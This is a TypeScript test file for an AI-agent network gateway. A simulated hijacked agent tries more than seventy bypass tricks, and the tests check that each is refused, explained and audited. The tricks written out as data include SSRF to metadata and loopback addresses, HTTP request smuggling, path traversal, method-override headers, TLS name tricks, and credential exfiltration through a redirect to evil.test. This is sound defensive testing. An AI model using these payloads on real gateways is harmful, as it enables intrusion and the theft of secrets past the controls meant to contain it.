/** Every way round the rules that a hijacked agent could try at the gateway: each is refused, and is evidence. */
import assert from "node:assert/strict";
import type { IncomingMessage, ServerResponse } from "node:http";
import { after, before, test } from "node:test";
import { attackerPrelude, eventually, printed, startMesh, type MeshFixture } from "../../fleet/running-mesh.ts";
import { OutsideAuthority, startOutside, type Outside } from "../../fleet/web-place.ts";
import { webAttacker } from "./attacker.ts";

const secret = "canary-of-the-gateway-7f3a91";
const authority = new OutsideAuthority();
let outside: Outside;
let plain: Outside;
let mesh: MeshFixture;
/** `HOST METHOD PATH` of all that arrived outside, with any secret that came along. */
const arrived: string[] = [];
const answers = new Map<string, { status: number; text: string }>();

function take(request: IncomingMessage, response: ServerResponse): void {
  const { host, ...headers } = request.headers;
  arrived.push(
    `${host} ${request.method} ${request.url} ${JSON.stringify(headers).includes(secret) ? "with the secret" : ""}`.trim(),
  );
  if (request.url === "/public/moved")
    return void response.writeHead(302, { location: `https://evil.test:${outside.port}/?k=${secret}` }).end();
  request.resume().on("end", () => {
    if (Object.keys(request.trailers).length > 0) arrived.push(`${host} TRAILERS /`);
    response.end("it arrived");
  });
}

const attack = (secured: number, open: number): string => `
import { get, inHttp2, inPlain, inTls, post, report, tunnel, secure } from "./attacker.mjs";
import { ask, raw } from "./prelude.mjs";
const port = ${secured};
const at = "api.test:" + port;
const doors = (authority) => () => tunnel(authority);
const http = (target, host, fields = []) => raw(["GET " + target + " HTTP/1.1", ...(host === undefined ? [] : ["Host: " + host]), "Connection: close", ...fields, "", ""].join("\\r\\n")).then((text) => ({ status: Number(text.split(" ")[1] ?? 0), text }));
const h2 = (more, body, times) => () => inHttp2(at, { ":method": "GET", ":path": "/public/h2", ":scheme": "https", ":authority": at, ...more }, body, times);
const placeholder = "Authorization: Bearer cordon_ph_key";
const hello = (mutate) => async () => {
  const { socket } = await tunnel(at);
  // A real ClientHello, changed by hand.
  const bytes = await new Promise(async (resolve) => {
    const { Duplex } = await import("node:stream");
    const tls = await import("node:tls");
    const sink = new Duplex({ read() {}, write(chunk, _e, done) { resolve(Buffer.from(chunk)); done(); } });
    tls.connect({ socket: sink, servername: "api.test" }).on("error", () => {});
  });
  return new Promise((resolve) => {
    socket.on("data", (piece) => resolve({ status: 200, text: "went on: " + piece.toString("hex").slice(0, 40) })).on("close", () => resolve({ status: 0, text: "closed" }));
    socket.write(mutate(bytes));
    setTimeout(() => resolve({ status: 200, text: "left open" }), 15000).unref();
  });
};
const addExtension = (bytes, type) => {
  const more = Buffer.from([type >> 8, type & 255, 0, 1, 0]);
  const out = Buffer.concat([bytes, more]);
  out.writeUInt16BE(out.readUInt16BE(3) + 5, 3);
  out.writeUIntBE(out.readUIntBE(6, 3) + 5, 6, 3);
  let at = 9 + 2 + 32; at += 1 + out[at]; at += 2 + out.readUInt16BE(at); at += 1 + out[at];
  out.writeUInt16BE(out.readUInt16BE(at) + 5, at);
  return out;
};
const inner = "GET /public/smuggled HTTP/1.1\\r\\nHost: " + at + "\\r\\n\\r\\n";
const smuggle = (fields, body) => () => inTls(at, post(at, "/public/carrier", fields, body));
await report({
  "fine: http/1.1": () => inTls(at, get(at, "/public/fine1")),
  "fine: http/2": h2({ ":path": "/public/fine2" }),
  "fine: absolute-form": () => http("http://plain.test:${open}/public/fine3", "plain.test:${open}"),
  "fine: credential": () => inTls(at, get(at, "/bound/fine4", [placeholder])),
  "connect: unlisted host": doors("evil.test:" + port),
  "connect: unlisted port": doors("api.test:22"),
  "connect: below the star": doors("a.b.star.test:" + port),
  "connect: the star itself": doors("star.test:" + port),
  "connect: metadata address": doors("169.254.169.254:80"),
  "connect: the loopback of the host": doors("127.0.0.1:" + port),
  "connect: decimal address": doors("2130706433:" + port),
  "connect: hexadecimal address": doors("0x7f.0.0.1:" + port),
  "connect: octal address": doors("0177.0.0.1:" + port),
  "connect: short address": doors("127.1:" + port),
  "connect: v4-mapped address": doors("[::ffff:127.0.0.1]:" + port),
  "connect: zone": doors("[::1%25lo]:" + port),
  "connect: trailing dot": doors("api.test.:" + port),
  "connect: user info": doors("api.test@evil.test:" + port),
  "connect: escape": doors("api%2etest:" + port),
  "connect: no port": doors("api.test"),
  "connect: a name of the host itself": () => inTls("localhost:" + port, get("localhost:" + port)),
  "tls: another server name": () => inTls(at, get(at), "evil.test"),
  "tls: no server name": () => inTls(at, get(at), ""),
  "tls: hidden server name": hello((bytes) => addExtension(bytes, 0xfe0d)),
  "tls: cut short": hello((bytes) => { bytes.writeUIntBE(9, 6, 3); return bytes; }),
  "tls: plain text in a tunnel to https": () => inPlain(at, get(at, "/public/plain")),
  "tunnel: CONNECT within": () => inTls(at, "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n"),
  "tunnel: absolute-form to elsewhere": () => inTls(at, "GET http://evil.test/ HTTP/1.1\\r\\nHost: " + at + "\\r\\n\\r\\n"),
  "host: another": () => inTls(at, get("evil.test:" + port, "/public/x")),
  "host: another port": () => inTls(at, get("api.test", "/public/x")),
  "host: two": () => inTls(at, get(at, "/public/x", ["Host: evil.test"])),
  "host: none": () => inTls(at, "GET /public/x HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n"),
  "host: not that of the absolute-form": () => http("http://plain.test:${open}/public/x", "evil.test"),
  "absolute-form: user info": () => http("http://plain.test:${open}@evil.test/public/x", "evil.test"),
  "absolute-form: unlisted": () => http("http://evil.test:${open}/", "evil.test:${open}"),
  "absolute-form: the host itself": () => http("http://127.0.0.1:${open}/", "127.0.0.1:${open}"),
  "absolute-form: https": () => http("https://api.test:" + port + "/public/x", at),
  "absolute-form: a file": () => http("file:///etc/passwd", "x"),
  "method: TRACE": () => inTls(at, "TRACE /public/x HTTP/1.1\\r\\nHost: " + at + "\\r\\n\\r\\n"),
  "method: not allowed": () => inTls(at, "DELETE /public/x HTTP/1.1\\r\\nHost: " + at + "\\r\\n\\r\\n"),
  "method: overridden": () => inTls(at, get(at, "/public/x", ["X-HTTP-Method-Override: DELETE"])),
  "method: overridden with an underscore": () => inTls(at, get(at, "/public/x", ["X_HTTP_Method_Override: DELETE"])),
  "path: not allowed": () => inTls(at, get(at, "/admin")),
  "path: overridden": () => inTls(at, get(at, "/public/x", ["X-Original-URL: /admin"])),
  "path: dots": () => inTls(at, get(at, "/public/../admin")),
  "path: escaped dots": () => inTls(at, get(at, "/public/%2e%2e/admin")),
  "path: escaped slash": () => inTls(at, get(at, "/public/..%2fadmin")),
  "path: escaped twice": () => inTls(at, get(at, "/public/%252e%252e%252fadmin")),
  "path: backslash": () => inTls(at, get(at, "/public/..\\\\admin")),
  "path: parameters behind dots": () => inTls(at, get(at, "/public/..;/admin")),
  "path: fragment": () => inTls(at, get(at, "/admin#/public/x")),
  "smuggle: length and chunks": smuggle(["Content-Length: 5", "Transfer-Encoding: chunked"], "0\\r\\n\\r\\n" + inner),
  "smuggle: two lengths": smuggle(["Content-Length: 0", "Content-Length: 90"], inner),
  "smuggle: signed length": smuggle(["Content-Length: +0"], inner),
  "smuggle: unknown coding": smuggle(["Transfer-Encoding: xchunked"], "0\\r\\n\\r\\n" + inner),
  "smuggle: coding with a bell": smuggle(["Transfer-Encoding: \\u000bchunked"], "0\\r\\n\\r\\n" + inner),
  "smuggle: folded field": smuggle(["X-A: b", " Content-Length: 90"], inner),
  "smuggle: underscore": smuggle(["Content_Length: 90", "Content-Length: 0"], ""),
  "smuggle: hop-by-hop length": smuggle(["Connection: content-length", "Content-Length: 2", "Upgrade_: x"], "{}"),
  "h2: another authority": h2({ ":authority": "evil.test:" + port }),
  "h2: another host": h2({ host: "evil.test:" + port }),
  "h2: scheme http": h2({ ":scheme": "http" }),
  "h2: method not allowed": h2({ ":method": "DELETE" }),
  "h2: path not allowed": h2({ ":path": "/admin" }),
  "h2: absolute path": h2({ ":path": "https://evil.test/" }, undefined, 3),
  "h2: line end in a field": h2({ "x-a": "b\\r\\nHost: evil.test" }),
  "h2: extended connect": h2({ ":method": "CONNECT", ":protocol": "websocket" }, undefined, 3),
  "credential: unbound host": () => http("http://plain.test:${open}/public/x", "plain.test:${open}", [placeholder]),
  "credential: unbound path": () => inTls(at, get(at, "/public/x", [placeholder])),
  "credential: unbound header": () => inTls(at, get(at, "/bound/x", ["X-Key: cordon_ph_key"])),
  "credential: in a cookie": () => inTls(at, get(at, "/bound/x", [placeholder, "Cookie: a=cordon_ph_key"])),
  "credential: in the query": () => inTls(at, get(at, "/bound/x?k=cordon_ph_key")),
  "credential: in the path": () => inTls(at, get(at, "/bound/cordon_ph_key")),
  "credential: in the body": () => inTls(at, post(at, "/bound/x", [placeholder, "Content-Length: 13"], "cordon_ph_key")),
  "credential: another's": () => inTls(at, get(at, "/bound/x", ["Authorization: Bearer cordon_ph_other"])),
  "credential: a key of one's own": () => inTls(at, get(at, "/bound/x", ["Authorization: Bearer attackers-own-key"])),
  "credential: none where it is required": () => inTls(at, get(at, "/bound/x")),
  "credential: two of them": () => inTls(at, get(at, "/bound/x", [placeholder, placeholder])),
  "credential: guessed names": async () => {
    const answers = [];
    for (const name of ["a", "key2", "github", "openai", "KEY", "key-", "key%31", "other"]) answers.push(await inTls(at, get(at, "/bound/x", ["Authorization: Bearer cordon_ph_" + name])));
    return answers.find(({ status }) => status !== 403) ?? answers[0];
  },
  "credential: in a trailer": () => inTls(at, post(at, "/public/trailer", ["Transfer-Encoding: chunked", "Trailer: Authorization", "Connection: close"], "2\\r\\n{}\\r\\n0\\r\\n" + placeholder + "\\r\\n\\r\\n")),
  "tls: too old": async () => {
    const { socket } = await tunnel(at);
    return { status: (await secure(socket, "api.test", { minVersion: "TLSv1.1", maxVersion: "TLSv1.1", ciphers: "ALL:@SECLEVEL=0" })) ? 200 : 0, text: "" };
  },
  "redirect": () => inTls(at, get(at, "/public/moved")),
  "websocket: path not allowed": () => inTls(at, get(at, "/admin", ["Upgrade: websocket", "Connection: upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="])),
  "desk by its whole address": () => http("http://desk/v1/status", "desk"),
  "still there": () => inTls(at, get(at, "/public/still")),
});
`;

before(async () => {
  outside = await startOutside(take, "api.test", authority);
  plain = await startOutside(take);
  mesh = await startMesh({
    "ca.pem": authority.pem,
    "cordon.yaml": `
version: 1
fleet: bypass
web: { ca: ca.pem }
bindings:
  key: [{ to: "https://api.test:${outside.port}", paths: [/bound/**], in: { header: authorization }, require: true }]
  other: [{ to: "https://api.test:${outside.port}", paths: [/bound/**], in: { header: authorization } }]
agents:
  thief:
    model: rehearsal/echo
    command: [/bin/node, /code/attack.mjs]
    code: code
    may:
      use: [key]
      reach:
        - { to: "https://api.test:${outside.port}", methods: [GET, POST], paths: [/public/**, /bound/**], address: 127.0.0.1 }
        - { to: "http://plain.test:${plain.port}", methods: [GET], paths: [/public/**], address: 127.0.0.1 }
        - { to: "https://*.star.test:${outside.port}", address: 127.0.0.1 }
        - https://localhost:${outside.port}
`,
    "code/prelude.mjs": attackerPrelude,
    "code/attacker.mjs": webAttacker,
    "code/attack.mjs": attack(outside.port, plain.port),
  });
  await mesh.desk.addCredential("key", Buffer.from(secret));
  await mesh.desk.addCredential("other", Buffer.from("another-canary-of-the-gateway"));
  await mesh.restart("thief");
  await eventually("the end", async () => (await printed(mesh, "thief", "end")).at(-1), 120_000);
  for (const { name, status, text } of await printed(mesh, "thief", "trick"))
    answers.set(String(name), { status: Number(status), text: String(text) });
});

after(async () => {
  await mesh?.stop();
  await outside?.close();
  await plain?.close();
});

test("what is allowed goes out, with the credential where it is bound", () => {
  for (const name of ["fine: http/1.1", "fine: http/2", "fine: absolute-form", "fine: credential", "still there"]) {
    assert.deepEqual([name, answers.get(name)?.status], [name, 200]);
    assert.match(answers.get(name)?.text ?? "", /it arrived/);
  }
  assert.ok(arrived.includes(`api.test:${outside.port} GET /bound/fine4 with the secret`));
});

test("nothing else goes out", () => {
  const fine = new Set([
    "/public/fine1",
    "/public/fine2",
    "/public/fine3",
    "/bound/fine4",
    "/public/still",
    "/public/moved",
  ]);
  // Sound requests, whose trick the gateway has taken away or to which no answer came back.
  fine.add("/public/carrier").add("/public/h2").add("/public/trailer");
  assert.deepEqual(
    arrived.filter((line) => !fine.has(line.split(" ")[2] ?? "")),
    [],
  );
  // The field with the line end was dropped: it made no second host and no second request.
  assert.deepEqual(
    arrived.filter((line) => line.includes("/public/h2")),
    [`api.test:${outside.port} GET /public/h2`],
  );
  const carriers = arrived.filter((line) => line.includes("/public/carrier"));
  assert.ok(carriers.length <= 1, carriers.join("\n"));
});

test("every trick is refused", () => {
  assert.ok(answers.size > 70);
  for (const [name, { status, text }] of answers) {
    if (/^(?:fine:|still)/.test(name) || disarmed.has(name)) continue;
    assert.ok(
      status === 0 || status === -1 || (status >= 400 && status < 500),
      `${name}: ${status} ${text.slice(0, 300)}`,
    );
    assert.doesNotMatch(text, /it arrived/, name);
  }
});

/** Why each is refused: told to the agent where there is a language for it, and evidence in any case. */
const unusual = /an address in an unusual form/;
const elsewhere = /`Host` names another place than the connection/;
const once = /a request names its host exactly once/;
const unescaped = /the target holds characters that must be escaped/;
const unread = /the request cannot be read \(HPE_|the request cannot be read \(ERR_HTTP2/;
const overridden = /changes what was decided on/;
const unbound = /is not bound to the/;
const required = /must carry the fleet's own credential/;
const stray = /where no credential may stand|a request carries one placeholder/;
const reasons: Readonly<Record<string, RegExp>> = {
  "connect: unlisted host": /may not reach https:\/\/evil\.test/,
  "connect: unlisted port": /may not reach https:\/\/api\.test:22/,
  "connect: below the star": /may not reach https:\/\/a\.b\.star\.test/,
  "connect: the star itself": /may not reach https:\/\/star\.test/,
  "connect: metadata address": /may not reach https:\/\/169\.254\.169\.254:80/,
  "connect: the loopback of the host": /may not reach https:\/\/127\.0\.0\.1/,
  ...{ "connect: decimal address": unusual, "connect: hexadecimal address": unusual },
  ...{ "connect: octal address": unusual, "connect: short address": unusual },
  "connect: v4-mapped address": /may not reach https:\/\/\[::ffff:7f00:1\]/,
  "connect: zone": /holds user info, a path or an escape/,
  "connect: trailing dot": /ends with a dot/,
  "connect: user info": /holds user info/,
  "connect: escape": /a path or an escape/,
  "connect: no port": /it has no port/,
  "connect: a name of the host itself": /`localhost` is at .*, which is not public: loopback/,
  "tls: another server name": /its TLS asks for `evil\.test`/,
  "tls: no server name": /its TLS asks for no name/,
  "tls: hidden server name": /hides its server name \(ECH\)/,
  "tls: cut short": /its first message is malformed/,
  "tls: plain text in a tunnel to https": /may not GET http:\/\/api\.test/,
  "tls: too old": /agree on no TLS \(ERR_SSL_UNSUPPORTED_PROTOCOL\)/,
  "tunnel: CONNECT within": /a tunnel within a tunnel is not opened/,
  "tunnel: absolute-form to elsewhere": /the target is not a path/,
  ...{ "host: another": elsewhere, "host: another port": elsewhere, "host: two": once, "host: none": once },
  "host: not that of the absolute-form": elsewhere,
  "absolute-form: user info": /the host is not understood: it holds user info/,
  "absolute-form: unlisted": /may not GET http:\/\/evil\.test/,
  "absolute-form: the host itself": /may not GET http:\/\/127\.0\.0\.1/,
  "absolute-form: https": /only `http` is asked for by its whole address/,
  "absolute-form: a file": /only `http` is asked for by its whole address/,
  "method: TRACE": /`TRACE` is not passed on/,
  "method: not allowed": /may not DELETE/,
  ...{ "method: overridden": overridden, "method: overridden with an underscore": overridden },
  "path: not allowed": /may not GET https:\/\/api\.test:\d+\/admin/,
  "path: overridden": overridden,
  ...{ "path: dots": /dot segments/, "path: escaped dots": /dot segments/ },
  ...{ "path: escaped slash": /may not GET .*%2fadmin/, "path: escaped twice": /may not GET .*%252fadmin/ },
  ...{
    "path: backslash": unescaped,
    "path: parameters behind dots": /may not GET .*;\/admin/,
    "path: fragment": unescaped,
  },
  ...{ "smuggle: length and chunks": unread, "smuggle: two lengths": unread, "smuggle: signed length": unread },
  ...{ "smuggle: unknown coding": unread, "smuggle: coding with a bell": unread, "smuggle: folded field": unread },
  "smuggle: underscore": overridden,
  ...{ "h2: another authority": elsewhere, "h2: another host": once, "h2: scheme http": /`` is not passed on/ },
  ...{ "h2: method not allowed": /may not DELETE/, "h2: path not allowed": /may not GET .*\/admin/ },
  ...{ "h2: absolute path": unread, "h2: extended connect": unread },
  ...{
    "credential: unbound host": unbound,
    "credential: unbound path": unbound,
    "credential: unbound header": unbound,
  },
  ...{ "credential: in a cookie": stray, "credential: in the query": unbound, "credential: in the path": unbound },
  ...{ "credential: in the body": stray, "credential: another's": unbound, "credential: guessed names": unbound },
  ...{ "credential: a key of one's own": required, "credential: none where it is required": required },
  "credential: two of them": /`authorization` is there twice/,
  "websocket: path not allowed": /may not GET .*\/admin/,
  "desk by its whole address": /may not GET http:\/\/desk/,
};
/** Sound requests, whose trick the gateway takes away. */
const disarmed = new Set([
  "smuggle: hop-by-hop length",
  "h2: line end in a field",
  "credential: in a trailer",
  "redirect",
]);

test("every trick is refused for its reason, which the agent is told where there is a language for it", () => {
  for (const [name, { status, text }] of answers) {
    if (name.startsWith("fine:") || name === "still there" || disarmed.has(name)) continue;
    const reason = reasons[name];
    assert.ok(reason, `no reason is named for ${name}`);
    if (text.includes('"reason"')) assert.match(text, reason, name);
    else assert.ok(status === 0, `${name}: ${status} without a reason: ${text.slice(0, 200)}`);
  }
  for (const name of Object.keys(reasons)) assert.ok(answers.has(name), `${name} was not tried`);
});

test("a redirect brings no secret along, and is not followed for the agent", () => {
  const { status, text } = answers.get("redirect") ?? { status: 0, text: "" };
  assert.equal(status, 302);
  assert.match(text, /location: https:\/\/evil\.test/i);
  assert.ok(!text.includes(secret));
});

test("each refusal is in the audit, and no secret is", async () => {
  const records: string[] = [];
  for (let from = 0; ;) {
    const { records: page } = (await mesh.desk.audit(from, 200)) as unknown as { records: readonly { seq: number }[] };
    if (page.length === 0) break;
    records.push(...page.map((record) => JSON.stringify(record)));
    from = page.at(-1)?.seq ?? from;
  }
  const text = records.join("\n");
  const refused = records.flatMap((record) => {
    const { subject, detail } = JSON.parse(record) as { subject: string; detail: { allow?: boolean; reason?: string } };
    return subject === "agent:thief" && detail.allow === false ? [detail.reason ?? ""] : [];
  });
  // One for each trick: a record that another one has left does not count for it.
  for (const reason of new Set(Object.values(reasons))) {
    const tried = Object.keys(reasons).filter((name) => reasons[name] === reason);
    const found = refused.filter((each) => reason.test(each)).length;
    assert.ok(found >= tried.length, `${found} records of ${reason} for: ${tried.join(", ")}`);
  }
  assert.ok(!text.includes(secret));
  const verified = (await mesh.desk.verifyAudit()) as { ok?: boolean };
  assert.notEqual(verified.ok, false);
  assert.equal(mesh.errors(), "");
});
